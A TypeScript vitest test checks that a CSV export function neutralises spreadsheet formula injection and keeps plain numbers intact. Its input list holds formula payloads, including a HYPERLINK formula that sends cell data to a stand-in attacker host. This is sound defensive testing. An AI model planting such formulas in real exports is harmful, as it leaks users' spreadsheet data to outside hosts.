import { expect, test } from 'vitest';
import { hostileStrings } from '#test/security/hostile.ts';
import { csvOf } from '#web/ui/chart/export/csv.ts';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠x',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+44 1423 555 0101',
  '-5',
  '"=1+1"',
  "'=1+1",
  'a,b',
  'two\r\nlines',
];

/** RFC 4180, read by somebody else. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const sign = text[i] ?? '';
    if (quoted && sign === '"' && text[i + 1] === '"') cell += text[++i];
    else if (sign === '"') quoted = !quoted;
    else if (!quoted && sign === ',') {
      rows.at(-1)?.push(cell);
      cell = '';
    } else if (!quoted && sign === '\r' && text[i + 1] === '\n') {
      rows.at(-1)?.push(cell);
      rows.push([]);
      cell = '';
      i++;
    } else cell += sign;
  }
  return rows.slice(0, -1);
}

test('INJ-03 no cell of a table that is taken along begins a formula, and a number stays one', () => {
  const words = [...FORMULAS, ...hostileStrings('t01-csv-formulas.json')];
  const [cells = []] = readCsv(csvOf([words]));
  expect(cells).toHaveLength(words.length);
  for (const [i, cell] of cells.entries()) {
    expect([words[i], `'${words[i]}`]).toContain(cell);
    if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  }
  expect(cells[words.indexOf('-5')]).toBe('-5');
});
